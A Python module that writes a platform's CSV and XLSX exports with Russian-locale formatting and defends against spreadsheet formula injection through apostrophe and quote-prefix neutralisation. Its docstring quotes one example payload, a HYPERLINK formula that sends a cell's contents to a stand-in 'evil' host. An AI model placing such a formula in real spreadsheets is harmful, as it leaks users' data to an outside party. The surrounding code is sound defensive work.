"""Every CSV and XLSX file the platform writes is written here: registry exports, templates, the
import error report, niches, compliance, chain graphs, ratings, discovery and the CLI's tables.

Two CSV dialects: for people (UTF-8 with BOM, ``;``, decimal commas, dates as ``ДД.ММ.ГГГГ``:
what Excel opens with a Russian locale) and ``plain`` for scripts (UTF-8, ``,``, full-precision
numbers). XLSX: bold frozen header, fitted widths, numbers as numbers, dates as dates.

Formula injection (OWASP "CSV injection"): a text beginning with ``= + - @``, a tab or a carriage
return is a formula to Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil/?"&A1)``).
In CSV such a text is written with a leading apostrophe, which makes it text. In XLSX every text is
a typed string cell (never a formula, never an error value) and one beginning with those characters
also carries Excel's quote prefix, so that editing the cell keeps it text; the value itself is
unchanged. Numbers stay numbers: the number -5 is a numeric cell, and a text that is just a number
("-5", "+7") is left as it is, since no spreadsheet runs it. The CSV reader drops the apostrophe
again (:func:`restored`), so an exported file imports back unchanged (an XLSX one holds the value
itself). A test (``tests/imports/test_formula_injection.py``) fails when another module writes CSV
or XLSX.

Data frames (Polars: the long tables of the complexity commands, a million rows and more) are
written by :func:`write_frame`: CSV through Polars' own writer after the same neutralisation,
done on the distinct texts that could start a formula, XLSX through :func:`write_xlsx`, and
Parquet as it is (typed columns, which no spreadsheet evaluates).
"""

import csv
import io
import re
from collections.abc import Iterable, Iterator
from datetime import date
from decimal import Decimal
from itertools import chain
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    import polars as pl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
DATE_FORMAT = "DD.MM.YYYY"
WIDTH_SAMPLE = 200  # rows read ahead to fit the column widths
MAX_WIDTH = 60
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # control characters XLSX cannot hold
_NUMBER = re.compile(r"[-+]?\d+(?:[.,]\d+)?")  # a signed number is no formula
_ERROR_VALUES = {"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"}


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` (after any leading apostrophes) as a formula."""
    rest = text.lstrip(QUOTE)
    return rest.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(rest)


def neutralised(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet runs: an apostrophe before a formula-like text (and
    before one that already starts with apostrophes, so that :func:`restored` is exact)."""
    return QUOTE + text if is_formula_like(text) else text


def restored(text: str) -> str:
    """The text :func:`neutralised` was given (the importer's reading of a CSV cell)."""
    return text[1:] if text.startswith(QUOTE) and is_formula_like(text) else text


def _joined(value: list | tuple) -> str:
    return "; ".join(map(str, value))


# CSV


def _csv_cell(value: Any) -> Any:
    """A cell for people: Russian yes/no, decimal commas, dates as ДД.ММ.ГГГГ."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "да" if value else "нет"
    if isinstance(value, float):
        return f"{value:.10g}".replace(".", ",")
    if isinstance(value, date):
        return value.strftime("%d.%m.%Y")
    if isinstance(value, list | tuple):
        value = _joined(value)
    return neutralised(value) if isinstance(value, str) else value


def _plain_cell(value: Any) -> Any:
    """A cell for scripts: numbers in full precision (``repr``), dates in ISO, None as empty."""
    if isinstance(value, list | tuple):
        value = _joined(value)
    return neutralised(value) if isinstance(value, str) else value


def write_csv_rows(
    out: IO[str], headers: Iterable[Any], rows: Iterable[Iterable[Any]], *, plain: bool = False
) -> int:
    """Write ``headers`` and ``rows`` to a text stream; returns the number of rows (no header).
    The stream's encoding (and BOM) is the caller's."""
    cell = _plain_cell if plain else _csv_cell
    writer = csv.writer(out, delimiter="," if plain else ";")
    writer.writerow([cell(h) for h in headers])
    count = 0
    for row in rows:
        writer.writerow([cell(v) for v in row])
        count += 1
    return count


def write_csv(
    path: Path,
    headers: Iterable[Any],
    rows: Iterable[Iterable[Any]],
    _title: str = "",
    *,
    plain: bool = False,
) -> int:
    """A CSV file: for people (UTF-8 with BOM and ``;``) or, ``plain``, for scripts (UTF-8,
    ``,``); returns the number of rows written."""
    with path.open("w", encoding="utf-8" if plain else "utf-8-sig", newline="") as f:
        return write_csv_rows(f, headers, rows, plain=plain)


def neutralised_column(series: "pl.Series") -> "pl.Series":
    """A text column with :func:`neutralised` applied to each cell; only the distinct cells
    that start with a formula character (or an apostrophe) go through Python."""
    import polars as pl

    if series.dtype != pl.String:
        return series
    suspects = series.filter(series.str.contains(r"^['=+\-@\t\r]")).unique().to_list()
    changed = {t: neutralised(t) for t in suspects if neutralised(t) != t}
    return series.replace(list(changed), list(changed.values())) if changed else series


def write_frame(path: Path, frame: "pl.DataFrame", title: str = "") -> int:
    """A data frame as CSV for scripts (UTF-8, ``,``, full-precision numbers, null as empty,
    formula-like texts neutralised: as ``write_csv(plain=True)``), XLSX, or Parquet, chosen by
    the suffix; returns the number of rows."""
    suffix = path.suffix.lower()
    if suffix == ".parquet":
        frame.write_parquet(path)
    elif suffix == ".xlsx":
        write_xlsx(path, frame.columns, iter(frame.iter_rows()), title)  # type: ignore[arg-type]
    else:
        header = [neutralised(c) for c in frame.columns]
        safe = frame.with_columns(neutralised_column(frame[c]) for c in frame.columns)
        safe.columns = header
        safe.write_csv(path, line_terminator="\r\n")
    return frame.height


# XLSX


def _xlsx_value(value: Any) -> Any:
    if isinstance(value, bool):
        return "да" if value else "нет"
    if isinstance(value, list | tuple):
        return _joined(value)
    if isinstance(value, str) and not value.isprintable():  # the common case costs no regex
        return _ILLEGAL.sub("", value)
    return value


def _type(cell) -> None:
    """Make a text cell a string (openpyxl turns ``=…`` into a formula), quote-prefixed when it
    looks like one; give a date the Russian format."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if is_formula_like(cell.value):
            cell.quotePrefix = True
    elif isinstance(cell.value, date) and cell.number_format in ("General", "yyyy-mm-dd"):
        cell.number_format = DATE_FORMAT


def _width(values: Iterable[Any]) -> float:
    longest = max((len(str(_xlsx_value(v))) for v in values if v is not None), default=0)
    return min(max(longest + 2, 8), MAX_WIDTH)


def write_xlsx(
    path: Path | IO[bytes],
    headers: list[str],
    rows: Iterator[list],
    title: str,
    notes: list[list[Any]] | None = None,
) -> int:
    """A streamed workbook in constant memory (each row leaves memory once written; XlsxWriter,
    docs/adr/0015-xlsxwriter-for-streamed-workbooks.md): bold frozen header, widths fitted to the
    first rows, numbers as numbers, dates as dates, every text a string cell; ``notes`` go to a
    second sheet «Пояснения». Returns the number of rows written."""
    from xlsxwriter import Workbook

    book = Workbook(path, STREAMED)
    try:
        sheet = book.add_worksheet(title or "Данные")
        formats = _Formats(book)
        sheet.freeze_panes(1, 0)
        sample = [r for r in (next(rows, None) for _ in range(WIDTH_SAMPLE)) if r is not None]
        for i, header in enumerate(headers):
            sheet.set_column(i, i, _width([header, *(r[i] for r in sample)]))
        _write_row(sheet, 0, headers, formats, formats.bold)
        count = 0
        for count, row in enumerate(chain(sample, rows), 1):
            _write_row(sheet, count, row, formats)
        if notes:
            explained = book.add_worksheet("Пояснения")
            for i, width in enumerate((28, 14, 50, 30, 60)):
                explained.set_column(i, i, width)
            for n, note in enumerate(notes):
                _write_row(explained, n, note, formats)
    finally:
        book.close()
    return count


# XlsxWriter: rows flushed as they are written (inline strings), texts never read as formulas,
# links or numbers, NaN and infinities as Excel's error values rather than an exception.
STREAMED = {
    "constant_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
    "nan_inf_to_errors": True,
}


class _Formats:
    """The cell formats of a streamed workbook (made once per workbook)."""

    def __init__(self, book) -> None:
        self.quoted = book.add_format({"quote_prefix": True})
        self.date = book.add_format({"num_format": DATE_FORMAT})
        self.bold = book.add_format({"bold": True})
        self.bold_quoted = book.add_format({"bold": True, "quote_prefix": True})


def _write_row(sheet, number: int, row: Iterable[Any], formats: _Formats, bold=None) -> None:
    """One row of typed cells: texts as strings (quote-prefixed when formula-like), numbers as
    numbers, dates with the Russian format; None and an empty text leave the cell empty."""
    for column, raw in enumerate(row):
        value = _xlsx_value(raw)
        if value is None or value == "":
            if bold is not None:
                sheet.write_blank(number, column, None, bold)
            continue
        if isinstance(value, str):
            if is_formula_like(value):
                quoted = formats.bold_quoted if bold is not None else formats.quoted
                sheet.write_string(number, column, value, quoted)
            else:
                sheet.write_string(number, column, value, bold)
        elif isinstance(value, int | float | Decimal):
            sheet.write_number(number, column, value, bold)
        elif isinstance(value, date):
            sheet.write_datetime(number, column, value, formats.date)
        else:
            sheet.write_string(number, column, _ILLEGAL.sub("", str(value)), bold)


class Book:
    """A workbook built sheet by sheet (reports, passports, graphs). Rows go in through
    :meth:`append` and :meth:`table`; :meth:`save` types every text cell of every sheet once
    more, so that even a cell set on a sheet directly is never saved as a formula."""

    def __init__(self) -> None:
        from openpyxl import Workbook

        self._book = Workbook()
        self._fresh = True

    def sheet(self, title: str):
        """A new sheet (the workbook's first one is reused), to append to and lay out."""
        if self._fresh:
            self._fresh = False
            sheet = self._book.active
            sheet.title = title
            return sheet
        return self._book.create_sheet(title)

    def append(self, sheet, row: Iterable[Any], *, bold: bool = False) -> list:
        """Add ``row`` below the last one of ``sheet``; returns its cells (to style them)."""
        from openpyxl.cell import Cell
        from openpyxl.styles import Font

        cells = []
        for value in row:
            cell = Cell(sheet, value=_xlsx_value(value))
            _type(cell)
            if bold:
                cell.font = Font(bold=True)
            cells.append(cell)
        sheet.append(cells)
        return cells

    def table(self, title: str, headers: list[str], rows: list[list[Any]]):
        """A sheet of one table: bold frozen header, widths fitted to the first rows."""
        from openpyxl.utils import get_column_letter

        sheet = self.sheet(title)
        self.append(sheet, headers, bold=True)
        for row in rows:
            self.append(sheet, row)
        for i, header in enumerate(headers):
            width = _width([header, *(r[i] for r in rows[:WIDTH_SAMPLE])])
            sheet.column_dimensions[get_column_letter(i + 1)].width = width
        sheet.freeze_panes = "A2"
        return sheet

    def save(self, target: Path | IO[bytes]) -> None:
        """Write the workbook to a path or a binary stream."""
        for sheet in self._book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        _type(cell)
        self._book.save(target)

    def content(self) -> bytes:
        """The workbook as bytes (for a download)."""
        buffer = io.BytesIO()
        self.save(buffer)
        return buffer.getvalue()
